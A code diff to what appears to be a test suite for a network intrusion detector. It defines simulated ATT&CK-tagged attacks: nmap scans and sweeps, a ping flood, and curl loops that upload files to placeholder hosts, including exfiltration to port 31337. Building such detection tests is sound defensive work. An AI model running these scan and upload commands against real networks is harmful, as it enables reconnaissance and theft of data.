@@ -5,6 +5,12 @@ def _requests(*queries):
     return "; ".join(f"for i in 1 2; do curl --silent --output /dev/null 'http://{{target}}{query}'; done" for query in queries)
 
 
+# The servers are left out: they have a port for each client's first bulk transfer, whenever that comes.
+_TEN_SECONDS_PAST = """
+rules: {uncommon_port: {history_s: 10}}
+groups: [{name: servers, hosts: ["10.77.2.0/24", "fd77:2::/64"], off: [uncommon_port]}]
+"""
+
 INJECTIONS = {injection.name: injection for injection in [
     Attack("scan", "T1046", "nmap -n -Pn -sS {target}", (("vertical_scan", "source"),)),
     Attack("sweep", "T1046", "nmap -n -Pn -sS -p 3389 {network}", (("horizontal_scan", "source"),), victims=("targets",)),
@@ -42,7 +48,10 @@ INJECTIONS = {injection.name: injection for injection in [
            (("beacon", "source"),), victims=("site",), seconds=60),
     Attack("spike", "T1048.001", "for i in 1 2 3; do curl --silent --insecure -T {folder}/large.bin https://{target}/upload; done",
            (("traffic_spike", "source"),)),
-    Attack("uncommon-port", "T1571", "for i in 1 2 3 4; do curl --silent -T {paper} http://{target}:31337/upload; sleep 2; done",
-           (("uncommon_port", "source"),), needs_config=True),
+    # Within home it is the server that has to answer for its ports, so this goes outside. First a visit that nobody minds, a
+    # window before: a host without a past is not judged.
+    Attack("uncommon-port", "T1571", "curl --silent --output /dev/null http://{site}/; sleep 11; "
+           "for i in 1 2 3 4; do curl --silent -T {paper} http://{site}:31337/upload; sleep 1; done",
+           (("uncommon_port", "source"),), victims=("site",), config=_TEN_SECONDS_PAST),
     Attack("large-payload", "T1048.003", "ping -n -q -i 0.08 -s 1000 -c 250 {target}", (("large_payload", "source"),)),
 ]}
